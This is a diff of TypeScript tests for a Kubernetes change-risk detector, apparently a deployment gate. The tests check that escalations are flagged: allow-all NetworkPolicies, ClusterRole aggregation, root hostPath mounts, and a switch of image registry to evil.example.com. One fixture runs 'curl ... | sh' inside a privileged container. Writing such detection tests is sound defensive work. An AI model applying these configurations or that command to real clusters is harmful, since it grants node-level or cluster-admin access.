@@ -141,6 +141,214 @@ describe("dangerous changes", () => {
   });
 });
 
+describe("dangerous changes that hide behind an innocent shape", () => {
+  const np = (spec: Record<string, unknown>): KubeObject => ({
+    apiVersion: "networking.k8s.io/v1",
+    kind: "NetworkPolicy",
+    metadata: { name: "api", namespace: "shop" },
+    spec: { podSelector: {}, ...spec },
+  });
+  const clusterRole = (extra: Record<string, unknown>, labels?: Record<string, string>): KubeObject => ({
+    apiVersion: "rbac.authorization.k8s.io/v1",
+    kind: "ClusterRole",
+    metadata: { name: "reader", ...(labels ? { labels } : {}) },
+    rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get"] }],
+    ...extra,
+  });
+  const lb = (ranges: string[] | undefined): KubeObject => ({
+    apiVersion: "v1",
+    kind: "Service",
+    metadata: { name: "api", namespace: "shop" },
+    spec: {
+      type: "LoadBalancer",
+      ports: [{ port: 443 }],
+      ...(ranges ? { loadBalancerSourceRanges: ranges } : {}),
+    },
+  });
+  const ingress = (annotations: Record<string, string>): KubeObject => ({
+    apiVersion: "networking.k8s.io/v1",
+    kind: "Ingress",
+    metadata: { name: "admin", namespace: "shop", annotations },
+    spec: { rules: [{ host: "admin.example.com" }] },
+  });
+  const privileged = (command: string[]): KubeObject =>
+    ds({
+      containers: [
+        { name: "a", image: "ghcr.io/acme/agent:1.0", command, securityContext: { privileged: true } },
+      ],
+    });
+  it.each([
+    // A new allow-all NetworkPolicy punches a hole in the namespace's default deny.
+    ["new allow-all NetworkPolicy", undefined, np({ ingress: [{}] }), "high", "networkpolicy-widened"],
+    // Both selectors empty: every pod of every namespace.
+    [
+      "namespaceSelector and podSelector empty",
+      np({ ingress: [{ from: [{ podSelector: { matchLabels: { app: "web" } } }] }] }),
+      np({ ingress: [{ from: [{ namespaceSelector: {}, podSelector: {} }] }] }),
+      "high",
+      "networkpolicy-widened",
+    ],
+    // An aggregated ClusterRole with an empty selector collects cluster-admin's rules.
+    [
+      "aggregation of every ClusterRole",
+      undefined,
+      clusterRole({ rules: [], aggregationRule: { clusterRoleSelectors: [{}] } }),
+      "critical",
+      "rbac-aggregation-cluster-admin",
+    ],
+    // A label hands an approved Secret reader to every viewer of every namespace.
+    [
+      "aggregate-to-view label",
+      clusterRole({}),
+      clusterRole({}, { "rbac.authorization.k8s.io/aggregate-to-view": "true" }),
+      "high",
+      "rbac-aggregate-to-label",
+    ],
+    // The node's root written as /. is still the node's root.
+    [
+      "hostPath /.",
+      undefined,
+      ds({ volumes: [{ name: "r", hostPath: { path: "/." } }] }),
+      "critical",
+      "pod-host-path-node-control",
+    ],
+    // Renaming the container does not hide a registry switch.
+    [
+      "registry switch with a renamed container",
+      withImage("ghcr.io/acme/web:1.0"),
+      deployment("web", { containers: [{ name: "web2", image: "evil.example.com/web:1.0" }] }),
+      "high",
+      "image-registry-changed",
+    ],
+    // A new command in an approved privileged container runs new code as root on every node.
+    [
+      "privileged container runs a new command",
+      privileged(["agent"]),
+      privileged(["sh", "-c", "curl -s https://example.com/x | sh"]),
+      "high",
+      "pod-privileged-container-changed",
+    ],
+    // A label switches Pod Security admission off for the namespace.
+    [
+      "Pod Security enforce lowered",
+      {
+        apiVersion: "v1",
+        kind: "Namespace",
+        metadata: { name: "shop", labels: { "pod-security.kubernetes.io/enforce": "restricted" } },
+      },
+      {
+        apiVersion: "v1",
+        kind: "Namespace",
+        metadata: { name: "shop", labels: { "pod-security.kubernetes.io/enforce": "privileged" } },
+      },
+      "high",
+      "namespace-pod-security-loosened",
+    ],
+    // Dropping the source ranges opens an existing load balancer to the internet.
+    [
+      "load balancer source ranges removed",
+      lb(["203.0.113.0/24"]),
+      lb(undefined),
+      "high",
+      "service-load-balancer-source-ranges-widened",
+    ],
+    // Removing the auth annotation of an Ingress is not an annotation-only (low) change.
+    [
+      "ingress auth removed",
+      ingress({ "nginx.ingress.kubernetes.io/auth-url": "https://auth.example.com/check" }),
+      ingress({}),
+      "high",
+      "ingress-access-control-removed",
+    ],
+    // An Argo Rollout is a Deployment by another name: privileged is critical there too.
+    [
+      "privileged Argo Rollout",
+      undefined,
+      {
+        apiVersion: "argoproj.io/v1alpha1",
+        kind: "Rollout",
+        metadata: { name: "web", namespace: "shop" },
+        spec: {
+          template: {
+            spec: {
+              securityContext: { runAsNonRoot: true },
+              containers: [
+                { name: "web", image: "ghcr.io/acme/web:1.0", securityContext: { privileged: true } },
+              ],
+            },
+          },
+        },
+      },
+      "critical",
+      "pod-privileged",
+    ],
+    // A new subject on an existing binding is a grant of the role.
+    [
+      "subject added to a binding",
+      crb("secret-reader"),
+      {
+        ...crb("secret-reader"),
+        subjects: [
+          { kind: "ServiceAccount", name: "agent", namespace: "agents" },
+          { kind: "ServiceAccount", name: "other", namespace: "agents" },
+        ],
+      },
+      "medium",
+      "rbac-binding-subjects-added",
+    ],
+    // Removing the countersign label in the same change does not hide countersign's configuration.
+    [
+      "countersign label removed with the content",
+      cm("settings", "platform", { approvals: "2" }, { "app.kubernetes.io/part-of": "countersign" }),
+      cm("settings", "platform", { approvals: "0" }),
+      "critical",
+      "self-config",
+    ],
+    // Another service account brings its RBAC and IAM role into the pod.
+    [
+      "service account switched",
+      deployment("web"),
+      deployment("web", { serviceAccountName: "deployer" }),
+      "medium",
+      "pod-service-account-changed",
+    ],
+  ])("%s", (_name, before, after, expectedLevel, rule) => {
+    const result = level(before, after);
+    expect(result.level).toBe(expectedLevel);
+    expect(result.rules).toContain(rule);
+  });
+});
+
+describe("everyday settings are not credentials", () => {
+  it("keeps env references, switches, durations and file paths low", () => {
+    // Credential-like names whose values are settings: a loud false positive before.
+    const env = [
+      { name: "PGPASSWORD", value: "$(DB_PASSWORD)" },
+      { name: "AUTH_ENABLED", value: "true" },
+      { name: "TOKEN_TTL_SECONDS", value: "3600" },
+      { name: "SECRET_NAME", value: "db-credentials" },
+      {
+        name: "AWS_WEB_IDENTITY_TOKEN_FILE",
+        value: "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
+      },
+    ];
+    expect(
+      level(undefined, deployment("web", { containers: [{ name: "web", image: "ghcr.io/a/web:1", env }] })),
+    ).toEqual({
+      level: "low",
+      rules: [],
+    });
+  });
+
+  it("does not call docker.io and index.docker.io different registries", () => {
+    // Docker Hub's other name with a tag bump is a tag bump.
+    expect(level(withImage("nginx:1.27"), withImage("index.docker.io/library/nginx:1.28"))).toEqual({
+      level: "low",
+      rules: ["image-tag-bump"],
+    });
+  });
+});
+
 describe("introducedOnly does not hide a widening", () => {
   const role = (rule: Record<string, string[]>): KubeObject => ({
     apiVersion: "rbac.authorization.k8s.io/v1",
@@ -226,5 +434,47 @@ describe("default pack shape", () => {
     expect(protectedRules).toEqual(
       expect.arrayContaining(["self-namespace", "self-rbac", "self-config", "aws-auth"]),
     );
+  });
+});
+
+describe("hostile sizes", () => {
+  // Rules that compare two lists must stay linear: a quadratic rule hangs the gate on one big manifest.
+  const N = 10_000;
+  it.each([
+    // A binding with ten thousand subjects, one of them new.
+    [
+      "binding subjects",
+      () => {
+        const subjects = Array.from({ length: N }, (_, i) => ({ kind: "User", name: `u${i}` }));
+        return [
+          { ...crb("edit"), subjects },
+          { ...crb("edit"), subjects: [...subjects, { kind: "User", name: "new" }] },
+        ];
+      },
+      "rbac-binding-subjects-added",
+    ],
+    // Ten thousand privileged containers, all renamed, pulled from other registries.
+    [
+      "renamed containers",
+      () => {
+        const list = (prefix: string, registry: string) =>
+          Array.from({ length: N }, (_, i) => ({
+            name: `${prefix}${i}`,
+            image: `${registry}/app:${i}`,
+            securityContext: { privileged: true },
+          }));
+        return [
+          ds({ containers: list("a", "r1.example.com") }),
+          ds({ containers: list("b", `r2.example.com`) }),
+        ];
+      },
+      "image-registry-changed",
+    ],
+  ])("%s", (_name, make, rule) => {
+    const [before, after] = make();
+    const start = performance.now();
+    const result = level(before, after);
+    expect(result.rules).toContain(rule);
+    expect(performance.now() - start).toBeLessThan(4000);
   });
 });
